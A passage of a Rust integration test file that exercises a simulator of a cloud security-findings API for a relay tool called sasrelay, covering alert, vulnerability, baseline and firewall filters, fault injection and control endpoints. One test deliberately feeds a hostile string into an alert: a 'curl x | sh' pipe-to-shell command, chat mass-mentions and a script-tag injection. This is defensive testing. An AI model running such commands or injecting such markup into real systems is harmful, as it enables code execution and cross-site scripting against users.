    assert!(total(&handled) > 0 && total(&pending) > 0);
    let ops: Vec<i64> = items(&handled, "SuspEvents")
        .iter()
        .map(|a| a["OperateTime"].as_i64().unwrap())
        .collect();
    assert!(
        ops.windows(2).all(|w| w[0] >= w[1]),
        "handled: by operate time, newest first"
    );
    let st = api
        .ok(
            "DescribeSuspEvents",
            &[("Status", "32"), ("PageSize", "100")],
        )
        .await;
    assert_eq!(total(&st), count(&|a| a["EventStatus"] == 32));
    let lv = api
        .ok(
            "DescribeSuspEvents",
            &[("Levels", "serious,remind"), ("PageSize", "100")],
        )
        .await;
    assert_eq!(total(&lv), count(&|a| a["Level"] != "suspicious"));
    let cl = api
        .ok(
            "DescribeSuspEvents",
            &[("ClusterId", &c0), ("PageSize", "100")],
        )
        .await;
    assert_eq!(total(&cl), count(&|a| a["K8sClusterId"] == c0.as_str()));
    assert!(total(&cl) < all.len(), "the other cluster has alerts too");
    // Time window on the latest occurrence, UTC wall clock, both ends inclusive to the second.
    let t0 = 1_700_000_000_000i64; // far in the past: only our alerts are there
    let mut made = Vec::new();
    for k in 0..3 {
        let v = sim
            .add_finding(
                Domain::Alert,
                Some("c0000000000window"),
                json!({"LastTimeStamp": t0 + k * 3_600_000 + 500}),
            )
            .unwrap();
        assert_eq!(v["LastTime"], wall(t0 + k * 3_600_000));
        made.push(v["Id"].as_i64().unwrap());
    }
    let q = |start: i64, end: i64| (wall(start), wall(end));
    let (s, e) = q(t0 + 1000, t0 + 3_600_000);
    let w = api
        .ok(
            "DescribeSuspEvents",
            &[
                ("ClusterId", "c0000000000window"),
                ("TimeStart", &s),
                ("TimeEnd", &e),
            ],
        )
        .await;
    assert_eq!(ids(&w, "SuspEvents", "Id"), vec![made[1]]);
    let (s, _) = q(t0, t0);
    let w = api
        .ok(
            "DescribeSuspEvents",
            &[("ClusterId", "c0000000000window"), ("TimeStart", &s)],
        )
        .await;
    assert_eq!(ids(&w, "SuspEvents", "Id"), vec![made[2], made[1], made[0]]);
    let (_, e) = q(t0, t0);
    let w = api
        .ok(
            "DescribeSuspEvents",
            &[("ClusterId", "c0000000000window"), ("TimeEnd", &e)],
        )
        .await;
    assert_eq!(ids(&w, "SuspEvents", "Id"), vec![made[0]]);
    // Statistics agree with the list.
    let stats = api
        .ok("GetClusterSuspEventStatistics", &[("ClusterId", &c0)])
        .await;
    let serious = count(&|a| {
        a["EventStatus"] == 1 && a["Level"] == "serious" && a["K8sClusterId"] == c0.as_str()
    });
    assert_eq!(stats["SuspStatistics"]["Serious"], serious);
    // Handling an alert moves it from pending to handled.
    let id = made[0];
    sim.set_status(Domain::Alert, id, 2).unwrap();
    let w = api
        .ok(
            "DescribeSuspEvents",
            &[("ClusterId", "c0000000000window"), ("Dealed", "N")],
        )
        .await;
    assert!(!ids(&w, "SuspEvents", "Id").contains(&id));
    let w = api
        .ok(
            "DescribeSuspEvents",
            &[("ClusterId", "c0000000000window"), ("Dealed", "Y")],
        )
        .await;
    assert_eq!(ids(&w, "SuspEvents", "Id"), vec![id]);
    assert_eq!(items(&w, "SuspEvents")[0]["OperateMsg"], "ignore");
}

/// The lookup sasrelay makes for vulnerabilities that left the pending list: `Ids` finds a
/// record in any state the other filters allow (so `StatusList=7,8,10,20` returns the fixed,
/// ignored and expired ones), a deleted record is found by no filter, more than 50 ids are
/// refused, and the bodies keep the sample's shape.
#[tokio::test]
async fn vulnerabilities_are_looked_up_by_id_in_any_state() {
    let sim = start().await;
    let http = reqwest::Client::new();
    let base = sim.base_url();
    let api = Api::new(&sim, SignatureVersion::V3);
    let c0 = cluster(&sim, 0);
    let add = || {
        sim.add_finding(Domain::Vuln, Some(&c0), json!({"Type": "cve", "Status": 1}))
            .unwrap()["PrimaryId"]
            .as_i64()
            .unwrap()
    };
    let [pending, fixed, ignored, expired, removed] = [add(), add(), add(), add(), add()];
    sim.set_status(Domain::Vuln, fixed, 7).unwrap();
    sim.set_status(Domain::Vuln, ignored, 10).unwrap();
    sim.set_status(Domain::Vuln, expired, 20).unwrap();
    let r = http
        .delete(format!("{base}/_sim/findings/vuln/{removed}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let was: Value = r.json().await.unwrap();
    assert_eq!(was["PrimaryId"], removed);
    assert!(sim.finding(Domain::Vuln, removed).is_none());
    let again = http
        .delete(format!("{base}/_sim/findings/vuln/{removed}"))
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), 404);

    let all_ids = [pending, fixed, ignored, expired, removed]
        .map(|i| i.to_string())
        .join(",");
    let sorted = |v: &Value| {
        let mut ids = ids(v, "VulRecords", "PrimaryId");
        ids.sort_unstable();
        ids
    };
    let closed = api
        .ok(
            "DescribeVulList",
            &[
                ("Type", "cve"),
                ("Ids", &all_ids),
                ("StatusList", "7,8,10,20"),
            ],
        )
        .await;
    assert_eq!(sorted(&closed), vec![fixed, ignored, expired]);
    let statuses: BTreeMap<i64, i64> = items(&closed, "VulRecords")
        .iter()
        .map(|r| {
            (
                r["PrimaryId"].as_i64().unwrap(),
                r["Status"].as_i64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        statuses,
        BTreeMap::from([(fixed, 7), (ignored, 10), (expired, 20)])
    );
    let mut diffs = Vec::new();
    shape_diff(
        &fixture("DescribeVulList.json"),
        &closed,
        "DescribeVulList",
        &mut diffs,
    );
    assert!(diffs.is_empty(), "shape differences:\n{}", diffs.join("\n"));
    // Without a state filter every existing record answers; `Dealed=n` keeps the pending one.
    let any = api
        .ok("DescribeVulList", &[("Type", "cve"), ("Ids", &all_ids)])
        .await;
    assert_eq!(sorted(&any), vec![pending, fixed, ignored, expired]);
    let n = api
        .ok(
            "DescribeVulList",
            &[("Type", "cve"), ("Ids", &all_ids), ("Dealed", "n")],
        )
        .await;
    assert_eq!(sorted(&n), vec![pending]);
    // Another type does not see them.
    let other = api
        .ok(
            "DescribeVulList",
            &[("Type", "app"), ("AttachTypes", "sca"), ("Ids", &all_ids)],
        )
        .await;
    assert!(items(&other, "VulRecords").is_empty());
    // The contract's limit: at most 50 ids per request.
    let fifty_one: String = (1..=51)
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(",");
    let r = api
        .call("DescribeVulList", &[("Type", "cve"), ("Ids", &fifty_one)])
        .await;
    assert_error(&r, 400, "InvalidParameter", &sim.endpoint());
    let fifty: String = (1..=50)
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(",");
    api.ok("DescribeVulList", &[("Type", "cve"), ("Ids", &fifty)])
        .await;
    // A fault scoped to calls carrying `Ids` leaves the listing alone and fails the lookup.
    let r = http
        .post(format!("{base}/_sim/faults"))
        .json(&json!({"kind": "throttling", "action": "DescribeVulList", "param": "Ids"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    api.ok("DescribeVulList", &[("Type", "cve"), ("Dealed", "n")])
        .await;
    assert_eq!(sim.pending_faults().len(), 1);
    let r = api
        .call("DescribeVulList", &[("Type", "cve"), ("Ids", &all_ids)])
        .await;
    assert_error(&r, 400, "Throttling.User", &sim.endpoint());
    assert!(sim.pending_faults().is_empty());
}

#[tokio::test]
async fn vulnerability_baseline_and_firewall_filters() {
    let sim = start().await;
    let api = Api::new(&sim, SignatureVersion::V1);
    let c0 = cluster(&sim, 0);
    let all = sim.findings(Domain::Vuln);
    let count = |f: &dyn Fn(&Value) -> bool| all.iter().filter(|a| f(a)).count();
    let total = |v: &Value| v["TotalCount"].as_u64().unwrap() as usize;
    let handled = [7, 8, 9, 10, 11, 20];
    let is_handled = |v: &Value| handled.contains(&v["Status"].as_i64().unwrap());
    let cve = api.ok("DescribeVulList", &[("Type", "cve")]).await;
    assert_eq!(total(&cve), count(&|v| v["Type"] == "cve"));
    let app = api
        .ok(
            "DescribeVulList",
            &[("Type", "app"), ("AttachTypes", "sca")],
        )
        .await;
    assert_eq!(
        total(&app),
        count(&|v| v["Type"] == "app" || v["Type"] == "sca")
    );
    let n = api
        .ok("DescribeVulList", &[("Type", "cve"), ("Dealed", "n")])
        .await;
    assert_eq!(total(&n), count(&|v| v["Type"] == "cve" && !is_handled(v)));
    let y = api
        .ok("DescribeVulList", &[("Type", "cve"), ("Dealed", "y")])
        .await;
    assert_eq!(total(&y), count(&|v| v["Type"] == "cve" && is_handled(v)));
    assert!(total(&y) > 0);
    let sl = api
        .ok(
            "DescribeVulList",
            &[("Type", "cve"), ("StatusList", "7,10"), ("PageSize", "100")],
        )
        .await;
    assert!(
        items(&sl, "VulRecords")
            .iter()
            .all(|v| v["Status"] == 7 || v["Status"] == 10)
    );
    assert_eq!(
        total(&sl),
        count(&|v| v["Type"] == "cve" && (v["Status"] == 7 || v["Status"] == 10))
    );
    let ne = api
        .ok("DescribeVulList", &[("Type", "cve"), ("Necessity", "asap")])
        .await;
    assert_eq!(
        total(&ne),
        count(&|v| v["Type"] == "cve" && v["Necessity"] == "asap")
    );
    let cl = api
        .ok("DescribeVulList", &[("Type", "cve"), ("ClusterId", &c0)])
        .await;
    assert_eq!(
        total(&cl),
        count(&|v| v["Type"] == "cve" && v["K8sClusterId"] == c0.as_str())
    );
    // Fixing moves a record from n to y and out of the statistics.
    let stat = |v: &Value| {
        let s = &v["VulStat"];
        ["AsapCount", "LaterCount", "NntfCount"]
            .iter()
            .map(|k| s[k].as_str().unwrap().parse::<u64>().unwrap())
            .sum::<u64>()
    };
    let before = stat(
        &api.ok("DescribeClusterVulStatistics", &[("ClusterId", &c0)])
            .await,
    );
    let added = sim
        .add_finding(Domain::Vuln, Some(&c0), json!({"Necessity": "later"}))
        .unwrap();
    let id = added["PrimaryId"].as_i64().unwrap();
    assert_eq!(added["ExtendContentJson"]["PrimaryId"], id);
    let after = stat(
        &api.ok("DescribeClusterVulStatistics", &[("ClusterId", &c0)])
            .await,
    );
    assert_eq!(after, before + 1);
    let fixed = sim.set_status(Domain::Vuln, id, 7).unwrap();
    assert_eq!(fixed["ExtendContentJson"]["Status"], "7");
    assert!(fixed["RepairTs"].as_i64().unwrap() > 0);
    assert_eq!(
        stat(
            &api.ok("DescribeClusterVulStatistics", &[("ClusterId", &c0)])
                .await
        ),
        before
    );
    let ty = added["Type"].as_str().unwrap().to_string();
    let y = api
        .ok(
            "DescribeVulList",
            &[("Type", &ty), ("Dealed", "y"), ("Ids", &id.to_string())],
        )
        .await;
    assert_eq!(ids(&y, "VulRecords", "PrimaryId"), vec![id]);

    // Baseline: passing an item removes it from the summary counts and the statistics.
    let node = sim.clusters()[1].nodes[0].uuid.clone();
    let c1 = cluster(&sim, 1);
    let w = sim
        .add_finding(
            Domain::Baseline,
            None,
            json!({"RiskId": 37, "ClusterId": c1, "Uuid": node, "Level": "high", "CheckId": 5101}),
        )
        .unwrap();
    let wid = w["CheckWarningId"].as_i64().unwrap();
    let high = |v: &Value| v["Data"]["HighWarningCount"].as_i64().unwrap();
    let stats_before = high(
        &api.ok(
            "GetClusterCheckItemWarningStatistics",
            &[("ClusterId", &c1)],
        )
        .await,
    );
    let summary = api
        .ok(
            "DescribeCheckWarningSummary",
            &[("ClusterId", &c1), ("PageSize", "100")],
        )
        .await;
    let redis = items(&summary, "WarningSummarys")
        .iter()
        .find(|r| r["RiskId"] == 37)
        .expect("risk 37 listed")
        .clone();
    assert!(redis["DatabaseRisk"].as_bool().unwrap());
    sim.set_status(Domain::Baseline, wid, 3).unwrap();
    assert_eq!(
        high(
            &api.ok(
                "GetClusterCheckItemWarningStatistics",
                &[("ClusterId", &c1)]
            )
            .await
        ),
        stats_before - 1
    );
    let passed = api
        .ok(
            "DescribeCheckWarningSummary",
            &[("ClusterId", &c1), ("Status", "3")],
        )
        .await;
    assert!(
        items(&passed, "WarningSummarys")
            .iter()
            .any(|r| r["RiskId"] == 37)
    );
    let items_of_node = api
        .ok(
            "DescribeCheckWarnings",
            &[("RiskId", "37"), ("Uuid", &node), ("RiskStatus", "3")],
        )
        .await;
    assert!(ids(&items_of_node, "CheckWarnings", "CheckWarningId").contains(&wid));
    let other_cluster = api
        .ok(
            "DescribeWarningMachines",
            &[("RiskId", "37"), ("ClusterId", &c0), ("Uuids", &node)],
        )
        .await;
    assert_eq!(other_cluster["TotalCount"], 0, "ClusterId filters machines");

    // Firewall: window on epoch ms (overlap with [FirstTime, LastTime]) and InterceptionTypes.N.
    let t0 = 1_600_000_000_000i64;
    let mut made = Vec::new();
    for (k, ty) in [(0i64, 1), (1, 2), (2, 1)] {
        let v = sim
            .add_finding(
                Domain::Firewall,
                Some("cfirewallwindow00"),
                json!({"FirstTime": t0 + k * 10_000, "LastTime": t0 + k * 10_000 + 5_000, "InterceptionType": ty}),
            )
            .unwrap();
        made.push(v["Id"].as_i64().unwrap());
    }
    let list = |q: Vec<(&'static str, String)>| {
        let api = api.clone();
        async move {
            let mut pairs: Vec<(&str, &str)> = vec![("ClusterId", "cfirewallwindow00")];
            pairs.extend(q.iter().map(|(k, v)| (*k, v.as_str())));
            let body = api.ok("ListInterceptionHistory", &pairs).await;
            ids(&body, "InterceptionHistoryList", "Id")
        }
    };
    assert_eq!(
        list(vec![
            ("StartTime", (t0 + 6_000).to_string()),
            ("EndTime", (t0 + 12_000).to_string())
        ])
        .await,
        vec![made[1]]
    );
    assert_eq!(
        list(vec![
            ("StartTime", t0.to_string()),
            ("InterceptionTypes.1", "1".into())
        ])
        .await,
        vec![made[2], made[0]]
    );
    assert_eq!(
        list(vec![
            ("InterceptionTypes.1", "1".into()),
            ("InterceptionTypes.2", "2".into())
        ])
        .await
        .len(),
        3
    );
    let summary = api.ok("GetInterceptionSummary", &[]).await;
    assert_eq!(summary["InterceptionSummary"]["ClusterCount"], 2);
    let cfg = api
        .ok("ListClusterInterceptionConfig", &[("ClusterId", &c0)])
        .await;
    assert_eq!(items(&cfg, "ClusterConfigList").len(), 1);
}

// ---------------------------------------------------------------------------------- faults

#[tokio::test]
async fn faults_are_deterministic_and_scoped() {
    let sim = start().await;
    let host = sim.endpoint();
    let api = Api::new(&sim, SignatureVersion::V3);
    sim.inject_fault(
        FaultSpec::throttling(1500)
            .times(2)
            .for_action("DescribeSuspEvents"),
    )
    .unwrap();
    // Another action is unaffected.
    api.ok("DescribeVulList", &[("Type", "cve")]).await;
    for _ in 0..2 {
        let r = api.call("DescribeSuspEvents", &[]).await;
        assert_error(&r, 400, "Throttling.User", &host);
        assert_eq!(r.headers["x-acs-retry-after"], "1500");
    }
    api.ok("DescribeSuspEvents", &[]).await;
    assert!(sim.pending_faults().is_empty());
    // Server errors, in injection order, for any action.
    sim.inject_fault(FaultSpec::new(FaultKind::ServiceUnavailable))
        .unwrap();
    sim.inject_fault(FaultSpec::new(FaultKind::InternalError))
        .unwrap();
    sim.inject_fault(FaultSpec::new(FaultKind::Error {
        code: "Throttling.Api".into(),
        status: Some(429),
        message: None,
    }))
    .unwrap();
    assert_error(
        &api.call("GetInterceptionSummary", &[]).await,
        503,
        "ServiceUnavailable",
        &host,
    );
    assert_error(
        &api.call("GetInterceptionSummary", &[]).await,
        500,
        "InternalError",
        &host,
    );
    let r = api.call("GetInterceptionSummary", &[]).await;
    assert_eq!((r.status, r.code()), (429, "Throttling.Api"));
    api.ok("GetInterceptionSummary", &[]).await;
    // Faults only hit authenticated calls: a bad signature does not consume one.
    sim.inject_fault(FaultSpec::new(FaultKind::InternalError))
        .unwrap();
    let wrong = api.clone().key(AK, "bad", None);
    assert_eq!(
        wrong.call("GetInterceptionSummary", &[]).await.code(),
        "SignatureDoesNotMatch"
    );
    assert_eq!(sim.pending_faults().len(), 1);
    sim.clear_faults();
    api.ok("GetInterceptionSummary", &[]).await;
    // Slow: the answer comes after the delay; a client with a shorter timeout gives up.
    sim.inject_fault(FaultSpec::new(FaultKind::Slow { delay_ms: 300 }))
        .unwrap();
    let t = Instant::now();
    api.ok("GetInterceptionSummary", &[]).await;
    assert!(t.elapsed() >= Duration::from_millis(300));
    sim.inject_fault(FaultSpec::new(FaultKind::Slow { delay_ms: 5_000 }))
        .unwrap();
    let s = api.sign("GetInterceptionSummary", &[]);
    let mut rb = reqwest::Client::new()
        .post(format!("{}/?{}", sim.base_url(), s.req.query))
        .timeout(Duration::from_millis(200));
    for (n, v) in &s.req.headers {
        if n != "host" {
            rb = rb.header(n, v);
        }
    }
    let err = rb.send().await.unwrap_err();
    assert!(err.is_timeout(), "{err}");
    // Truncated: Content-Length promises more than arrives before the connection closes.
    sim.inject_fault(FaultSpec::new(FaultKind::Truncated {
        keep_bytes: Some(40),
    }))
    .unwrap();
    let s = api.sign("DescribeSuspEvents", &[]);
    let mut rb = reqwest::Client::new().post(format!("{}/?{}", sim.base_url(), s.req.query));
    for (n, v) in &s.req.headers {
        if n != "host" {
            rb = rb.header(n, v);
        }
    }
    let resp = rb.send().await.unwrap();
    assert_eq!(resp.status(), 200);
    let announced = resp.content_length().unwrap();
    assert!(announced > 40);
    assert!(resp.bytes().await.is_err(), "the body ends early");
    // Short body: a complete response whose JSON is cut.
    sim.inject_fault(FaultSpec::new(FaultKind::ShortBody { keep_bytes: None }))
        .unwrap();
    let r = api.call("DescribeSuspEvents", &[]).await;
    assert_eq!(r.status, 200);
    assert!(r.text.starts_with("{\"RequestId\""));
    assert!(serde_json::from_str::<Value>(&r.text).is_err());
    // Not JSON at all.
    sim.inject_fault(FaultSpec::new(FaultKind::NotJson))
        .unwrap();
    let r = api.call("DescribeSuspEvents", &[]).await;
    assert_eq!(r.status, 200);
    assert!(r.text.contains("502 Bad Gateway"));
    assert_eq!(r.json, Value::Null);
    // Wrong types: valid JSON, numbers as strings, lists as objects.
    sim.inject_fault(FaultSpec::new(FaultKind::WrongTypes))
        .unwrap();
    let r = api.call("DescribeSuspEvents", &[]).await;
    assert_eq!(r.status, 200);
    assert!(r.json["TotalCount"].is_string());
    assert!(r.json["SuspEvents"].is_object());
    // Everything was counted, rejected calls included.
    assert_eq!(sim.call_count("DescribeSuspEvents"), 7);
    assert_eq!(sim.call_count("DescribeVulList"), 1);
    sim.reset_calls();
    assert!(sim.calls().is_empty());
    // Nonsense is refused.
    assert!(sim.inject_fault(FaultSpec::throttling(1).times(0)).is_err());
}

// ------------------------------------------------------------------------- control over HTTP

#[tokio::test]
async fn control_endpoints_over_http() {
    let sim = start().await;
    let http = reqwest::Client::new();
    let base = sim.base_url();
    let api = Api::new(&sim, SignatureVersion::V3);
    let clusters: Value = http
        .get(format!("{base}/_sim/clusters"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let c = clusters[0]["cluster_id"].as_str().unwrap().to_string();
    assert!(c.starts_with('c') && c.len() == 17, "{c}");
    assert_eq!(clusters[0]["nodes"].as_array().unwrap().len(), 3);
    // Add an alert with attacker-written content merged over a generated default.
    let hostile = "curl x | sh\n<!channel> **@all** <script>alert(1)</script>";
    let r = http
        .post(format!("{base}/_sim/findings"))
        .json(&json!({"domain": "alert", "cluster_id": c, "fields": {
            "Level": "serious",
            "AlarmEventNameDisplay": "Reverse shell",
            "Details": [{"NameDisplay": "Command line", "Type": "text", "Value": hostile, "ValueDisplay": hostile}]
        }}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let added: Value = r.json().await.unwrap();
    let id = added["Id"].as_i64().unwrap();
    assert_eq!(added["K8sClusterId"], c.as_str());
    assert_eq!(added["EventStatus"], 1);
    assert!(added["K8sPodName"].as_str().is_some_and(|p| !p.is_empty()));
    let body = api
        .ok("DescribeSuspEvents", &[("Id", &id.to_string())])
        .await;
    assert_eq!(body["SuspEvents"][0]["Details"][0]["Value"], hostile);
    // Patch by id, then change the status.
    let r: Value = http
        .post(format!("{base}/_sim/findings"))
        .json(&json!({"domain": "alert", "fields": {"Id": id, "Level": "remind"}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        (r["Id"].as_i64(), r["Level"].as_str()),
        (Some(id), Some("remind"))
    );
    let r = http
        .post(format!("{base}/_sim/findings/alert/{id}/status"))
        .json(&json!({"status": 32}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let got: Value = http
        .get(format!("{base}/_sim/findings/alert/{id}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(got["EventStatus"], 32);
    let r = http
        .get(format!("{base}/_sim/findings/alert/1"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    let r = http
        .get(format!("{base}/_sim/findings/nope/1"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    let r = http
        .post(format!("{base}/_sim/findings"))
        .json(&json!({"domain": "baseline", "fields": {"RiskId": 999}}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let e: Value = r.json().await.unwrap();
    assert!(e["error"].as_str().unwrap().contains("RiskId"));
    // Credentials and faults over HTTP.
    let r = http
        .post(format!("{base}/_sim/credentials"))
        .json(&json!({"access_key_id": "http-key", "access_key_secret": "http-secret", "denied": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let k = api.clone().key("http-key", "http-secret", None);
    assert_eq!(
        k.call("GetInterceptionSummary", &[]).await.code(),
        "Forbidden.RAM"
    );
    let r = http
        .delete(format!("{base}/_sim/credentials/http-key"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        k.call("GetInterceptionSummary", &[]).await.code(),
        "InvalidAccessKeyId.NotFound"
    );
    let r = http
        .post(format!("{base}/_sim/faults"))
        .json(&json!({"kind": "throttling", "action": "GetInterceptionSummary", "count": 1, "retry_after_ms": 250}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let pending: Value = http
        .get(format!("{base}/_sim/faults"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(pending[0]["kind"], "throttling");
    let r = api.call("GetInterceptionSummary", &[]).await;
    assert_eq!(r.headers["x-acs-retry-after"], "250");
    let r = http
        .post(format!("{base}/_sim/faults"))
        .json(&json!({"kind": "slow", "delay_ms": 10_000_000}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let calls = get_json(&http, &format!("{base}/_sim/calls")).await;
    assert_eq!(calls["calls"]["GetInterceptionSummary"], 3);
    assert_eq!(calls["calls"]["DescribeSuspEvents"], 1);
    assert_eq!(calls["total"], 4);
    // A generator step through HTTP: the new alert shows up in the API.
    let rep: Value = http
        .post(format!("{base}/_sim/tick"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let new_id = rep["new_alerts"][0].as_i64().unwrap();
    let body = api
        .ok("DescribeSuspEvents", &[("Id", &new_id.to_string())])
        .await;
    assert_eq!(body["TotalCount"], 1);
    let r = http
        .delete(format!("{base}/_sim/calls"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(sim.calls().is_empty());
}

// ------------------------------------------------------------------------ generator, content

#[tokio::test]
async fn generator_steps_change_every_domain() {
    let sim = start().await;
    let mut seen = BTreeMap::<&str, usize>::new();
    for _ in 0..40 {
        let r = sim.tick();
        for (k, n) in [
            ("new_alerts", r.new_alerts.len()),
            ("recurring_alerts", r.recurring_alerts.len()),
            ("handled_alerts", r.handled_alerts.len()),
            ("new_vulns", r.new_vulns.len()),
            ("fixed_vulns", r.fixed_vulns.len()),
            ("ignored_vulns", r.ignored_vulns.len()),
            ("new_baseline", r.new_baseline.len()),
            ("passed_baseline", r.passed_baseline.len()),
            ("ignored_baseline", r.ignored_baseline.len()),
            ("new_firewall", r.new_firewall.len()),
            ("grown_firewall", r.grown_firewall.len()),
        ] {
            *seen.entry(k).or_default() += n;
        }
        for id in &r.fixed_vulns {
            assert_eq!(sim.finding(Domain::Vuln, *id).unwrap()["Status"], 7);
        }
        for id in &r.ignored_baseline {
            assert_eq!(sim.finding(Domain::Baseline, *id).unwrap()["Status"], 6);
        }
        for id in &r.handled_alerts {
            assert_ne!(sim.finding(Domain::Alert, *id).unwrap()["EventStatus"], 1);
        }
    }
    for (k, n) in &seen {
        assert!(*n > 0, "{k} never happened in 40 steps: {seen:?}");
    }
    // Realistic content, and attacker-written strings now and then.
    let alerts = sim.findings(Domain::Alert);
    let names: BTreeSet<&str> = alerts
        .iter()
        .map(|a| a["AlarmEventName"].as_str().unwrap())
        .collect();
    for expected in [
        "Mining program",
        "Reverse shell",
        "Container escape via privileged container",
        "Interactive shell in container",
        "Malicious image started",
    ] {
        assert!(
            names.contains(expected),
            "{expected} missing from {names:?}"
        );
    }
    let values: Vec<String> = alerts
        .iter()
        .flat_map(|a| a["Details"].as_array().unwrap().clone())
        .map(|d| d["Value"].as_str().unwrap().to_string())
        .collect();
    assert!(
        values.iter().any(|v| v.contains('\n')),
        "a newline in a command line"
    );
    assert!(values.iter().any(|v| v.contains('<')), "HTML or mentions");
    assert!(
        values
            .iter()
            .any(|v| v.contains("@all") || v.contains("<!channel>") || v.contains("@here")),
        "chat mentions"
    );
    // Ids are unique and grow with time.
    let ids: Vec<i64> = alerts.iter().map(|a| a["Id"].as_i64().unwrap()).collect();
    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn background_generator_runs_and_stops_with_the_server() {
    let sim = Simulator::start(SimConfig {
        tick: Some(Duration::from_millis(20)),
        ..SimConfig::default()
    })
    .await
    .unwrap();
    let before = sim.findings(Domain::Alert).len();
    let api = Api::new(&sim, SignatureVersion::V3);
    // Poll the API (no sleeping) until the generator added alerts.
    let grown = tokio::time::timeout(Duration::from_secs(20), async {
        loop {
            let body = api.ok("DescribeSuspEvents", &[("PageSize", "1")]).await;
            if body["TotalCount"].as_u64().unwrap() as usize > before {
                break;
            }
        }
    })
    .await;
    assert!(grown.is_ok(), "the generator added nothing");
    let addr = sim.addr();
    sim.stop().await.unwrap();
    assert!(
        tokio::net::TcpStream::connect(addr).await.is_err(),
        "port closed after stop"
    );
}

#[tokio::test]
async fn demo_config_and_serve_on_a_given_listener() {
    let demo = SimConfig::demo();
    assert_eq!(demo.listen.to_string(), "127.0.0.1:8901");
    assert_eq!(demo.credentials[0].access_key_id, "sasrelay-sim");
    assert_eq!(demo.credentials[0].access_key_secret, "sasrelay-sim-secret");
    assert!(demo.tick.is_some());
    // What `sasrelay simulate` does, on an ephemeral port instead of 8901.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let sim = Simulator::new(SimConfig {
        tick: None,
        ..SimConfig::demo()
    })
    .unwrap();
    let token = tokio_util::sync::CancellationToken::new();
    let task = tokio::spawn(sasrelay::simulator::serve(
        listener,
        sim.clone(),
        token.clone(),
    ));
    let r = reqwest::get(format!("http://{addr}/_sim/clusters"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    token.cancel();
    task.await.unwrap().unwrap();
    assert!(
        Simulator::new(SimConfig {
            clusters: 0,
            ..SimConfig::default()
        })
        .is_err()
    );
}

// ------------------------------------------------------------------------ large accounts

/// A 1,000-cluster world with counts per cluster: every cluster holds exactly its share, and
/// every listing filtered by `ClusterId` (paged) returns exactly that cluster's records.
#[tokio::test]
async fn a_thousand_cluster_world_lists_per_cluster() {
    let sim = Simulator::start(SimConfig {
        clusters: 1_000,
        initial_per_cluster: true,
        initial: sasrelay::simulator::InitialFindings {
            alerts: 5,
            vulns: 3,
            baseline: 2,
            firewall: 3,
        },
        ..SimConfig::default()
    })
    .await
    .unwrap();
    let api = Api::new(&sim, SignatureVersion::V3);
    let clusters: Vec<String> = sim.clusters().into_iter().map(|c| c.cluster_id).collect();
    assert_eq!(clusters.len(), 1_000);
    assert_eq!(
        clusters.iter().collect::<BTreeSet<_>>().len(),
        1_000,
        "cluster ids are distinct"
    );
    // Exactly the per-cluster count everywhere.
    let by_cluster = |d: Domain, key: &str| {
        let mut m = BTreeMap::<String, Vec<i64>>::new();
        for r in sim.findings(d) {
            let id = r[d.id_key()].as_i64().unwrap();
            m.entry(r[key].as_str().unwrap().to_string())
                .or_default()
                .push(id);
        }
        m
    };
    let alerts = by_cluster(Domain::Alert, "K8sClusterId");
    let vulns = by_cluster(Domain::Vuln, "K8sClusterId");
    let warnings = by_cluster(Domain::Baseline, "ClusterId");
    let firewall = by_cluster(Domain::Firewall, "ClusterId");
    for (m, n) in [(&alerts, 5), (&vulns, 3), (&warnings, 2), (&firewall, 3)] {
        assert_eq!(m.len(), 1_000, "every cluster has findings");
        assert!(m.values().all(|ids| ids.len() == n), "{n} per cluster");
    }
    // Every cluster's alerts, one listing per cluster, are that cluster's and only those.
    for c in &clusters {
        let body = api
            .ok(
                "DescribeSuspEvents",
                &[("ClusterId", c), ("PageSize", "100")],
            )
            .await;
        let mut got = ids(&body, "SuspEvents", "Id");
        got.sort_unstable();
        assert_eq!(&got, &alerts[c], "alerts of {c}");
    }
    // Paging within a cluster, in every domain, for a few clusters across the world.
    let every_type = [("Type", "cve"), ("AttachTypes", "sys,cms,app,emg,sca")];
    for c in [&clusters[0], &clusters[499], &clusters[999]] {
        let mut a = walk_describe(
            &api,
            "DescribeSuspEvents",
            "SuspEvents",
            "Id",
            &[("ClusterId", c)],
            2,
        )
        .await;
        a.sort_unstable();
        assert_eq!(&a, &alerts[c]);
        let mut q = every_type.to_vec();
        q.push(("ClusterId", c));
        let mut v = walk_describe(&api, "DescribeVulList", "VulRecords", "PrimaryId", &q, 2).await;
        v.sort_unstable();
        assert_eq!(&v, &vulns[c]);
        let f = walk_list(
            &api,
            "ListInterceptionHistory",
            "InterceptionHistoryList",
            "Id",
            "CurrentPage",
            &[("ClusterId", c)],
            2,
        )
        .await;
        let mut f: Vec<i64> = f.iter().map(|r| r["Id"].as_i64().unwrap()).collect();
        f.sort_unstable();
